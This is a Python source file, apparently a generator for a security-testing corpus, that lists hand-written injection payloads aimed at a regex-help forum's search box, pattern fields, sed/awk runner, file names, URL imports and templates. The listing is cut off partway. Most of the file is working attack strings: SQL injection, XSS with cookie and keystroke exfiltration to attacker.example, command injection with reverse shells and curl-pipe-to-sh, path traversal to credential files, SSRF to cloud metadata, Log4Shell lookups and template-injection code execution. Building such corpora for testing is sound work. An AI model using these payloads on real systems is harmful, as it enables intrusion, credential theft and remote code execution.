"""Attack corpus for the regexhelp domain: a regular-expression / text-processing help forum.

Payloads are hand-written for this corpus and placed in the forum's own fields and notations
(search box, pattern field, sed/awk/grep boxes that a "try it" runner executes, sample-file
names, URL imports, answer previews rendered by a template engine, notification e-mail
subjects, directory lookups...). Class = <context>-<technique>[+<encoding>].
A minority of values come from small templates over hand-written pools.
Output: attacks.jsonl next to this file.
"""
import json
import random
from pathlib import Path

SEED = 8302
PREFIX = "ha83"

# ------------------------------------------------------------------ sqli
# contexts: search box -> LIKE '%..%'; pattern field -> REGEXP '..'; thread id / sort / limit
SQLI_LIT = [
    ("search-union", "lookbehind' UNION SELECT username, password_hash FROM users-- -"),
    ("search-boolean", "sed%' AND 1=1 AND '%'='"),
    ("pattern-or-true", "^[a-z]+$' OR '1'='1"),
    ("pattern-time-sleep", r"(?<year>\d{4})' AND SLEEP(5)-- "),
    ("search-stacked-drop", "awk'; DROP TABLE threads;--"),
    ("threadid-numeric-or", "42 OR 1=1"),
    ("search-error-extractvalue", "x' AND extractvalue(1,concat(0x7e,(SELECT version())))-- "),
    ("search-pg-sleep-concat", "grep'||(SELECT pg_sleep(5))||'"),
    ("search-mssql-waitfor", "regex'; WAITFOR DELAY '0:0:5'--"),
    ("search-sqlite-master", "x' UNION SELECT name, sql FROM sqlite_master--"),
    ("search-oracle-union", "a' UNION SELECT banner, NULL FROM v$version--"),
    ("sort-case-blind", "title, (CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN title ELSE created_at END)"),
    ("search-union+comment-space", "sed'/**/UNION/**/SELECT/**/email,token/**/FROM/**/api_keys#"),
    ("search-union+case", "x' uNiOn SeLeCt 1,2,3-- -"),
    ("search-or-true+url", "awk%27%20OR%201%3D1--%20"),
    ("search-union+url2", "grep%2527%2520UNION%2520SELECT%2520NULL--%2520"),
    ("body-pattern-sleep", "My pattern is ^(\\w+)$' OR SLEEP(3) OR ' and it never matches, why?"),
    ("tag-insert-values", "regex','spam'),(99,'admin-tag')-- "),
    ("note-insert-subquery", "Thanks!', (SELECT password FROM users LIMIT 1))-- "),
    ("search-blind-substring", "sed' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a'-- "),
    ("threadid-if-sleep", "1 AND IF(ASCII(SUBSTRING(DATABASE(),1,1))>100,SLEEP(4),0)"),
    ("search-mssql-xp-dirtree", "x'; EXEC master..xp_dirtree '\\\\203.0.113.9\\share'--"),
    ("search-load-file", "x' UNION SELECT LOAD_FILE('/etc/passwd'),2-- "),
    ("search-into-outfile", "x' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/r.php'-- "),
    ("search-pg-copy-program", "x'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh'--"),
    ("json-pattern-or-true", "{\"pattern\": \"x' OR '1'='1\", \"flags\": \"i\"}"),
    ("pattern-regexp-blind", "x' OR (SELECT password FROM users WHERE id=1) REGEXP '^a'-- "),
    ("pattern-rlike-blind", "abc' OR user() RLIKE '^root'-- "),
    ("threadid-updatexml", "1' AND updatexml(1,concat(0x3a,(SELECT user())),1)-- "),
    ("search-pg-cast-error", "x' AND 1=CAST((SELECT current_user) AS int)-- "),
    ("search-mssql-convert-error", "x' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--"),
    ("threadid-having", "1' GROUP BY id HAVING 1=1--"),
    ("threadid-order-by-probe", "1' ORDER BY 5-- -"),
    ("username-second-order", "regexfan'-- "),
    ("page-stacked-update", "2; UPDATE users SET role='admin' WHERE id=7"),
    ("search-sqlite-randomblob", "x' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))-- "),
    ("json-search-union+unicode-escape", "{\"q\":\"x\\u0027 UNION SELECT token FROM sessions-- \"}"),
    ("search-backslash-escape-bypass", "sed\\' OR 1=1#"),
    ("search-or-hex+hex", "x' OR username=0x61646d696e-- "),
    ("search-or-char", "x' OR username=CHAR(97,100,109,105,110)-- "),
    ("filter-paren-close", "1) OR (1=1"),
    ("search-paren-like", "foo%') OR ('1'='1"),
    ("body-multiline-delete", "Input:\nabc\nPattern: [a-z]+'); DELETE FROM answers WHERE ('1'='1"),
    ("sed-field-union-version", "s/foo/bar/g' UNION ALL SELECT NULL,NULL,@@version-- -"),
    ("grep-field-or-empty", "grep -E 'x' OR '' = '"),
    ("plain-or-true", "' OR '1'='1' -- "),
    ("plain-union-schema", "1' UNION SELECT NULL, table_name FROM information_schema.tables-- "),
    ("plain-comment-auth", "admin'/*"),
    ("plain-stacked-shutdown", "'; SHUTDOWN--"),
    ("plain-subquery-sleep", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)"),
    ("plain-or-true-hash", "' OR 1=1#"),
    ("plain-comment-admin", "admin'--"),
    ("plain-stacked-drop", "1; DROP TABLE users--"),
    ("sort-stacked-pg-sleep", "created_at; SELECT pg_sleep(5)"),
    ("limit-union", "10 UNION SELECT password FROM users"),
    ("search-json-extract", "x' OR json_extract(settings,'$.is_admin')=1-- "),
    ("search-benchmark", "x' AND BENCHMARK(5000000,MD5('regex'))-- "),
    ("body-multiline-comment-or", "lookahead'\n-- comment\nOR 1=1 -- "),
    ("search-or-true+whitespace", "x'\tOR\t1=1--\t"),
    ("pattern-concat-subquery", "(?i)select'||(SELECT token FROM api_keys LIMIT 1)||'"),
    ("search-like-union", "%' AND 1=0 UNION SELECT email, reset_token FROM users WHERE '%'='"),
    ("search-versioned-comment+comment", "x' /*!50000UNION*/ /*!50000SELECT*/ 1,2-- "),
    ("search-pg-dollar-quote", "x'; INSERT INTO notes(body) VALUES ($$pwned$$)--"),
    ("search-pg-sleep-subselect", "x' AND (SELECT 1 FROM pg_sleep(5)) IS NULL-- "),
    ("flavour-select-union", "pcre' UNION SELECT id, email FROM users WHERE role='admin'-- "),
    ("search-information-columns", "x' UNION SELECT column_name, NULL FROM information_schema.columns WHERE table_name='users'-- "),
]

SQLI_WORDS = ["lookahead", "sed -E", "awk -F", "\\d{4}", "[[:alpha:]]", "named group", "rg -U", "backtracking"]
SQLI_BREAK = ["'", "%'", "')", "\""]
SQLI_PAY = [
    ("union", "UNION SELECT username, password_hash FROM users"),
    ("time-sleep", "AND SLEEP(6)"),
    ("or-true", "OR 2>1"),
    ("blind-count", "AND (SELECT COUNT(*) FROM users WHERE role='admin')>0"),
    ("union-session", "UNION SELECT session_id, user_id FROM sessions"),
]


def gen_sqli(rng):
    w = rng.choice(SQLI_WORDS)
    b = rng.choice(SQLI_BREAK)
    tech, p = rng.choice(SQLI_PAY)
    return "search-" + tech, f"{w}{b} {p}-- -"


# ------------------------------------------------------------------ xss
XSS_LIT = [
    ("title-img-onerror", "Regex help <img src=x onerror=alert(document.domain)>"),
    ("body-script-cookie", "My pattern: <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("pattern-svg-onload", "^(a|b)+$<svg onload=alert(1)>"),
    ("sample-iframe-javascript", "<iframe src=\"javascript:alert('regex')\"></iframe>"),
    ("markdown-link-javascript", "[regex101 link](javascript:alert(document.cookie))"),
    ("attr-dq-breakout", "\" onmouseover=\"alert(1)\" x=\""),
    ("attr-sq-autofocus", "' autofocus onfocus='alert(document.domain)"),
    ("textarea-breakout-script", "</textarea><script>alert(1)</script>"),
    ("title-tag-breakout", "</title><svg/onload=alert(1)>"),
    ("codeblock-breakout", "</code></pre><img src=1 onerror=alert(1)>"),
    ("js-string-breakout", "';alert(String.fromCharCode(88,83,83));//"),
    ("js-template-literal", "${alert(document.domain)}"),
    ("json-script-breakout", "</script><script>alert(1)</script>"),
    ("html-details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("html-body-onpageshow", "<body onpageshow=alert(1)>"),
    ("html-input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("link-javascript+html-entity", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">test</a>"),
    ("search-script+url", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("html-script+case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("html-object-javascript", "<object data=\"javascript:alert(1)\">"),
    ("link-data-uri+base64", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">sample output</a>"),
    ("html-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("body-form-phishing", "Please log in again to see the answer:<form action=\"https://attacker.example/steal\"><input name=password placeholder=\"Re-enter password\"><button>Continue</button></form>"),
    ("html-base-hijack", "<base href=\"https://attacker.example/\">"),
    ("html-iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    ("svg-script+html-entity", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("html-onerror+unicode-escape", "<img src=x onerror=\"\\u0061lert(1)\">"),
    ("html-onerror-backtick", "<img src=x onerror=alert`1`>"),
    ("html-onerror-atob+base64", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("tester-groupname-img", "(?<x><img src=x onerror=alert(1)>)"),
    ("sed-replacement-script", "s/foo/<script>alert(1)<\\/script>/g"),
    ("awk-output-svg", "awk '{print \"<svg onload=alert(1)>\"}' file"),
    ("expected-output-video", "Expected output:\n<video><source onerror=\"alert(1)\"></video>"),
    ("html-audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("html-marquee-onstart", "<marquee onstart=alert(1)>regex</marquee>"),
    ("html-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("client-template-constructor", "{{constructor.constructor('alert(1)')()}}"),
    ("attr-unquoted-handler", "x onmouseover=alert(1)"),
    ("textarea-breakout-img", "</textarea><img src=x onerror=alert(document.cookie)>"),
    ("style-breakout-script", "</style><script>alert(1)</script>"),
    ("comment-breakout-script", "--><script>alert(1)</script><!--"),
    ("link-javascript+whitespace", "<a href=\"java\tscript:alert(1)\">docs</a>"),
    ("markdown-link-javascript+case", "[see here](JaVaScRiPt:alert(1))"),
    ("html-img-onerror+url2", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("json-script-breakout+unicode-escape", "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("html-onerror-exfil", "<img src=/nope onerror=\"new Image().src='https://attacker.example/l?c='+encodeURIComponent(document.cookie)\">"),
    ("svg-xlink-javascript", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"10\" y=\"20\">click the example</text></a></svg>"),
    ("html-embed-javascript", "<embed src=\"javascript:alert(1)\">"),
    ("html-object-data-html", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>"),
    ("html-button-formaction", "<form><button formaction=javascript:alert(1)>Run regex</button></form>"),
    ("html-animationstart", "<style>@keyframes k{}</style><p style=\"animation-name:k\" onanimationstart=\"alert(1)\">match</p>"),
    ("html-select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("plain-script-alert", "<script>alert('XSS')</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg/onload=alert(document.domain)>"),
    ("plain-javascript-uri", "javascript:alert(document.cookie)"),
    ("plain-attr-breakout-script", "\"><script>alert(1)</script>"),
    ("plain-body-onload", "<body onload=alert(1)>"),
    ("plain-iframe-javascript", "<iframe src=javascript:alert(1)>"),
    ("plain-attr-breakout-img", "'><img src=x onerror=alert(1)>"),
    ("html-onerror-settimeout-concat", "<img src=x onerror=setTimeout('al'+'ert(1)')>"),
    ("html-onerror-bracket-concat", "<img src=x onerror=top['al'+'ert'](1)>"),
    ("svg-onload-location-hash", "<svg onload=eval(location.hash.slice(1))>#alert(1)"),
    ("note-img-keylogger", "Thanks! <img src=x onerror=\"document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)\">"),
    ("flavour-option-breakout", "pcre2\"></option><script>alert(1)</script>"),
]

XSS_WRAP = ["Pattern: {v}", "Expected output: {v}", "s/x/{v}/g", "Sample line 3: {v}", "{v} (see screenshot)", "Solved ✔ {v}"]
XSS_TAGS = [("img-onerror", "<img src=x onerror={s}>"), ("svg-onload", "<svg onload={s}>"),
            ("video-onerror", "<video src=x onerror={s}>"), ("input-onfocus", "<input autofocus onfocus={s}>"),
            ("details-ontoggle", "<details open ontoggle={s}>"), ("body-onload", "<body onload={s}>")]
XSS_SINKS = ["alert(1)", "alert(document.domain)", "print()", "confirm(document.cookie)", "fetch('//attacker.example/'+document.cookie)"]


def gen_xss(rng):
    tech, tag = rng.choice(XSS_TAGS)
    return "field-" + tech, rng.choice(XSS_WRAP).format(v=tag.format(s=rng.choice(XSS_SINKS)))


# ------------------------------------------------------------------ cmdi
# contexts: the "try it" runner builds e.g. grep -E '<pattern>' sample.txt / sed -E '<expr>' in.txt
CMDI_LIT = [
    ("grep-pattern-quote-break", "foo' /etc/passwd; curl http://attacker.example/x | sh; echo '"),
    ("sed-s-e-flag", "s/.*/id/e"),
    ("sed-write-file", "s/x/x/w /var/www/html/shell.php"),
    ("sed-address-e-command", "1e curl -s http://attacker.example/s|sh"),
    ("awk-begin-system", "BEGIN{system(\"id\")}"),
    ("awk-getline-pipe", "BEGIN{while((\"cat /etc/shadow\" | getline l)>0) print l}"),
    ("awk-print-to-shell", "BEGIN{print \"id\" | \"/bin/sh\"}"),
    ("perl-replacement-e-backtick", "s/.*/`id`/e"),
    ("rg-argument-pre", "--pre=sh"),
    ("sed-argument-expression", "--expression=1e id"),
    ("pattern-dq-subshell", "[a-z]+$(id)"),
    ("pattern-dq-backtick", "\\d{3}`uname -a`"),
    ("pattern-semicolon", "^foo$; cat /etc/passwd"),
    ("pattern-pipe-nc", "error | nc 203.0.113.5 4444 -e /bin/sh"),
    ("pattern-and-wget", "x && wget -qO- http://attacker.example/i.sh | bash"),
    ("pattern-or-curl", "nomatch || curl attacker.example/p -o /tmp/p && sh /tmp/p"),
    ("pattern-newline-separator", "foo\nid"),
    ("pattern-semicolon+ifs", "x;cat${IFS}/etc/passwd"),
    ("pattern-brace-expansion", "x;{cat,/etc/passwd}"),
    ("pattern-semicolon+url", "x%3B%20id"),
    ("pattern-ansi-c-quote+hex", "x;$'\\x69\\x64'"),
    ("pattern-base64-pipe-sh+base64", "x; echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo | base64 -d | sh"),
    ("grep-quote-break-revshell", "x'; bash -i >& /dev/tcp/203.0.113.7/9001 0>&1 #"),
    ("grep-quote-break-python-revshell", "'; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.4\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")' #"),
    ("grep-quote-break-sleep", "x' ; sleep 10 ; echo '"),
    ("grep-quote-break-ping", "x'|ping -c 10 127.0.0.1|'"),
    ("pattern-dns-exfil", "x$(nslookup $(whoami).oob.attacker.example)"),
    ("findstr-ampersand-type", "foo & type C:\\Windows\\win.ini"),
    ("findstr-dq-powershell", "x\" & powershell -nop -c \"iwr http://attacker.example/a.ps1|iex\" & \""),
    ("findstr-pipe-whoami", "abc | whoami"),
    ("pattern-quote-obfuscation", "x;c'a't /e?c/p?ss??"),
    ("pattern-backslash-obfuscation", "x;w\\h\\o\\a\\m\\i"),
    ("pattern-variable-concat", "x;a=c;b=at;$a$b /etc/hostname"),
    ("pattern-env-exfil", "x; env | curl -X POST --data-binary @- https://attacker.example/env"),
    ("grep-quote-break-crontab", "x'; echo '* * * * * curl attacker.example/c|sh' | crontab - ; echo '"),
    ("pattern-authorized-keys", "x; echo ssh-ed25519 AAAAFAKEKEYPLACEHOLDER attacker >> ~/.ssh/authorized_keys"),
    ("find-argument-exec", "*.txt -exec sh -c 'id > /tmp/o' ;"),
    ("tar-argument-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("sed-s-e-flag-shadow", "s/^/cat \\/etc\\/shadow/e"),
    ("gitgrep-argument-pager", "--open-files-in-pager=sh -c 'id>/tmp/o'"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-passwd", "| cat /etc/passwd"),
    ("plain-subshell-whoami", "$(whoami)"),
    ("plain-backtick-id", "`id`"),
    ("plain-and-ls", "&& ls -la /"),
    ("plain-semicolon-rm", "; rm -rf /var/www/uploads"),
    ("plain-or-id", "|| id"),
    ("plain-semicolon-sleep", "; sleep 5"),
    ("plain-ampersand-whoami", "& whoami"),
    ("plain-backtick-sleep", "`sleep 5`"),
    ("pattern-path-slice", "x;cat${IFS}${HOME:0:1}etc${HOME:0:1}passwd"),
    ("pattern-semicolon+url2", "x%253Bid"),
    ("pattern-newline+url", "foo%0Acat%20/etc/passwd"),
    ("pattern-tee-webshell", "x | tee /var/www/html/s.php <<< '<?php system($_GET[\"c\"]);?>'"),
    ("pattern-dns-loop-exfil", "x; for l in $(cat /etc/hostname); do host $l.attacker.example; done"),
    ("pattern-printf-octal+octal", "x;$(printf '\\151\\144')"),
    ("awk-getline-curl-system", "BEGIN{\"curl -s attacker.example/c\" | getline c; system(c)}"),
    ("body-run-command", "Here's my command:\ngrep -E 'x' file; curl -s http://attacker.example/k.sh | sh\nwhy doesn't it match?"),
    ("sed-address-e-id", "1e id"),
    ("sed-last-line-e-wget", "$e wget -q http://198.51.100.20/m -O /tmp/m"),
    ("perl-replacement-ge-system", "s/x/system('id')/ge"),
    ("awk-field-system", "-F, 'BEGIN{system(\"curl attacker.example|sh\")}'"),
    ("sed-quote-break-semicolon", "s/a/b/'; id; echo '"),
    ("awk-end-system", "{ n++ } END { system(\"wget -qO- http://198.51.100.9/a | sh\") }"),
    ("grep-dq-subshell-mkfifo", "\"$(rm -f /tmp/f; mkfifo /tmp/f; sh -i < /tmp/f 2>&1 | nc 203.0.113.7 4444 > /tmp/f)\""),
    ("rg-argument-pre-glob", "--pre=/tmp/uploads/sample.sh --pre-glob=*"),
    ("filename-semicolon-touch", "sample.txt;touch /tmp/pwned"),
]

CMDI_WRAP = [("grep-quote-break", "{w}' {s} {c} {s} echo '"), ("pattern-subshell", "{w}$({c})"),
             ("pattern-separator", "{w}{s} {c}"), ("sed-quote-break", "s/{w}/x/'{s} {c} #")]
CMDI_WORDS = ["foo", "[0-9]+", "^ERROR", "colour", "\\bcat\\b", "TODO"]
CMDI_SEPS = [";", "&&", "||", "|"]
CMDI_CMDS = ["id", "uname -a", "cat /etc/passwd", "curl -s http://attacker.example/r | sh",
             "wget -qO /tmp/r http://203.0.113.30/r", "sleep 8", "whoami"]


def gen_cmdi(rng):
    tech, t = rng.choice(CMDI_WRAP)
    return tech, t.format(w=rng.choice(CMDI_WORDS), s=rng.choice(CMDI_SEPS), c=rng.choice(CMDI_CMDS))


# ------------------------------------------------------------------ traversal
TRAV_LIT = [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("sample-prefix-dotdot", "samples/../../../../etc/shadow"),
    ("sample-backslash-dotdot", "..\\..\\..\\windows\\win.ini"),
    ("sample-dotdot+url", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("sample-dotdot+url2", "%252e%252e%252f%252e%252e%252fetc%252fhosts"),
    ("sample-dotdot+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("sample-strip-bypass", "....//....//....//etc/passwd"),
    ("attachment-tomcat-semicolon", "..;/..;/WEB-INF/web.xml"),
    ("plain-absolute-passwd", "/etc/passwd"),
    ("plain-backslash-win-ini", "..\\..\\..\\..\\windows\\win.ini"),
    ("plain-dotdot-shadow", "../../../../../etc/shadow"),
    ("plain-absolute-shadow", "/etc/shadow"),
    ("sample-nullbyte+url", "../../etc/passwd%00.txt"),
    ("sample-proc-environ", "/proc/self/environ"),
    ("sample-dotdot-proc-cmdline", "../../../proc/self/cmdline"),
    ("sample-dotdot-env-file", "../../.env"),
    ("sample-dotdot-ssh-key", "../../../home/app/.ssh/id_rsa"),
    ("sample-backslash+url", "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
    ("attachment-windows-absolute", "C:\\Windows\\System32\\config\\SAM"),
    ("attachment-unc-path", "\\\\203.0.113.10\\share\\payload.txt"),
    ("archive-entry-zipslip", "../../../../var/www/html/shell.php"),
    ("sample-slash+url", "..%2f..%2f..%2fvar/log/nginx/access.log"),
    ("sample-abs-prefix-dotdot", "/var/www/regexhelp/../../../etc/group"),
    ("sample-dir-dotdot+url", "samples/%2e%2e/%2e%2e/%2e%2e/etc/issue"),
    ("sample-mixed-separators", "..\\/..\\/..\\/etc/passwd"),
    ("sample-iis+unicode-u", "..%u2216..%u2216windows/win.ini"),
    ("sample-deep-dotdot", "../../../../../../../../../../../../etc/hosts"),
    ("include-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("sample-dot-slash-padding", "/./././././etc/passwd"),
    ("sample-double-slash", "..//..//..//etc//passwd"),
    ("sample-dotdot+overlong-utf8-dots", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("sample-year-dir-history", "samples/2024/../../../../root/.bash_history"),
    ("export-dotdot-db-config", "../config/database.yml"),
    ("theme-dotdot-settings", "../../../../app/settings.py"),
    ("sample-k8s-token", "../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("sample-slash+url2", "..%252f..%252f..%252fetc%252fpasswd"),
    ("body-sample-path", "Sample file: ../../../../etc/passwd\nPattern: ^root"),
    ("sed-read-command", "r /etc/passwd"),
    ("sed-address-read-command", "1r ../../../../etc/shadow"),
    ("awk-getline-file", "BEGIN{while((getline l < \"/etc/passwd\")>0) print l}"),
    ("sample-nested-strip-bypass", "..././..././..././etc/passwd"),
    ("sample-webroot-dotdot", "/var/www/html/../../../etc/passwd"),
    ("static-slash+url", "static/..%2f..%2f..%2f..%2fetc/passwd"),
    ("sample-aws-credentials", "../../../../root/.aws/credentials"),
    ("attachment-webconfig", "..\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("attachment-windows-forward", "C:/Windows/System32/drivers/etc/hosts"),
    ("lang-file-dotdot", "../../../../../../usr/share/regexhelp/../../../etc/passwd"),
]

TRAV_SEPS = ["../", "..\\", "..%2f", "....//", "%2e%2e/"]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.ssh/id_ed25519", "var/www/regexhelp/.env",
                "windows/win.ini", "home/regex/.bash_history"]
TRAV_PREFIX = ["", "samples/", "uploads/2024/", "attachments/"]


def gen_trav(rng):
    sep = rng.choice(TRAV_SEPS)
    enc = "+url" if "%" in sep else ""
    return "sample-dotdot-template" + enc, rng.choice(TRAV_PREFIX) + sep * rng.randint(3, 8) + rng.choice(TRAV_TARGETS)


# ------------------------------------------------------------------ ssrf
SSRF_LIT = [
    ("import-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("import-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("import-loopback-redis", "http://127.0.0.1:6379/"),
    ("plain-localhost-admin", "http://localhost:8080/admin"),
    ("import-loopback+ip-decimal", "http://2130706433/"),
    ("import-loopback+ip-hex", "http://0x7f000001/"),
    ("import-loopback+ip-octal", "http://0177.0.0.1/"),
    ("import-loopback+ip-short", "http://127.1/"),
    ("import-ipv6-loopback-elastic", "http://[::1]:9200/_cat/indices"),
    ("import-loopback+ipv6-mapped", "http://[::ffff:127.0.0.1]/"),
    ("import-metadata+ipv6-mapped-hex", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("import-gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20pwned%0D%0A"),
    ("import-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("plain-file-scheme", "file:///etc/passwd"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-localhost-server-status", "http://localhost/server-status"),
    ("plain-ipv6-loopback", "http://[::1]/"),
    ("import-userinfo-confusion", "http://example.com@127.0.0.1/"),
    ("link-userinfo-metadata", "http://regex101.com@169.254.169.254/latest/user-data"),
    ("import-dns-internal-alias", "http://localtest.attacker.example/"),
    ("import-dns-rebinding", "http://rebind.attacker.example/latest/meta-data/"),
    ("import-open-redirect-chain", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("import-zero-addr-ssh", "http://0.0.0.0:22/"),
    ("import-private-consul", "http://10.0.0.5:8500/v1/agent/self"),
    ("import-private-router", "http://192.168.1.1/cgi-bin/luci"),
    ("import-k8s-api-secrets", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("import-ecs-credentials", "http://169.254.170.2/v2/credentials"),
    ("import-alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("import-azure-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("import-loopback+url", "http://%31%32%37%2e%30%2e%30%2e%31/"),
    ("import-loopback+unicode-enclosed", "http://①②⑦.⓪.⓪.①/"),
    ("import-loopback+ip-hex-dotted", "http://0x7f.0x0.0x0.0x1:8000/"),
    ("import-loopback+ip-octal-int", "http://017700000001/"),
    ("import-metadata+ip-decimal", "http://2852039166/latest/meta-data/"),
    ("body-markdown-image-metadata", "Screenshot of my regex101 session:\n![sample](http://169.254.169.254/latest/meta-data/hostname)"),
    ("import-docker-api", "Import sample from: http://127.0.0.1:2375/containers/json"),
    ("import-rabbitmq-api", "http://127.0.0.1:15672/api/users"),
    ("import-ldap-scheme", "ldap://127.0.0.1:389/"),
    ("import-loopback+ipv6-full", "http://[0:0:0:0:0:ffff:7f00:1]/"),
    ("import-backslash-confusion", "http://127.0.0.1:80\\@attacker.example/"),
    ("import-actuator+case", "http://LocalHost:8080/actuator/env"),
    ("import-zero+ip-zero", "http://0/"),
    ("import-ipv6-any-mysql", "http://[::]:3306/"),
    ("import-netdoc-scheme", "netdoc:///etc/passwd"),
    ("import-couchdb", "http://127.0.0.1:5984/_all_dbs"),
    ("plain-metadata", "http://169.254.169.254/latest/meta-data/"),
    ("webhook-internal-solr", "http://127.0.0.1:8983/solr/admin/cores?action=STATUS"),
]

SSRF_HOSTS = [("loopback", "127.0.0.1"), ("loopback+ip-decimal", "2130706433"), ("metadata", "169.254.169.254"),
              ("localhost", "localhost"), ("private", "10.1.2.3"), ("loopback+ip-short", "127.0.1")]
SSRF_PORTS = ["", ":8080", ":9000", ":6379", ":5000"]
SSRF_PATHS = ["/admin", "/latest/meta-data/", "/internal/config", "/server-status", "/debug/vars", "/metrics"]


def gen_ssrf(rng):
    tech, h = rng.choice(SSRF_HOSTS)
    return "import-" + tech, f"http://{h}{rng.choice(SSRF_PORTS)}{rng.choice(SSRF_PATHS)}"


# ------------------------------------------------------------------ code
CODE_LIT = [
    ("answer-jinja-cycler-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("answer-jinja-builtins-import", "{{ self.__init__.__globals__.__builtins__.__import__('os').system('id') }}"),
    ("answer-jinja-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("plain-jinja-config-leak", "{{ config.items() }}"),
    ("answer-jinja-warning-loop", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("answer-jinja-request-globals", "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("answer-jinja-lipsum", "{{ lipsum.__globals__['os'].popen('uname -a').read() }}"),
    ("answer-jinja-attr-filter+hex", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f') }}"),
    ("answer-twig-filter-system", "{{ ['id']|filter('system') }}"),
    ("answer-twig-undefined-filter", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("answer-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("answer-velocity-runtime", "#set($c=$x.class.forName('java.lang.Runtime'))#set($r=$c.getRuntime())$r.exec('id')"),
    ("plain-erb-backtick", "<%= `id` %>"),
    ("answer-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("answer-smarty-system", "{system('id')}"),
    ("answer-mako-import", "${__import__('os').popen('id').read()}"),
    ("answer-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("answer-spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}"),
    ("answer-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("answer-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("title-log4shell-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("title-log4shell+case-lookup", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("note-log4shell+default-lookup", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.12/o}"),
    ("search-log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("json-prototype-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("json-constructor-prototype", "{\"constructor\":{\"prototype\":{\"isModerator\":true}}}"),
    ("query-prototype-pollution", "tags[__proto__][admin]=1"),
    ("csv-formula-hyperlink", "=HYPERLINK(\"https://attacker.example/?d=\"&A1,\"See regex docs\")"),
    ("csv-formula-dde-cmd", "=cmd|' /C calc'!A0"),
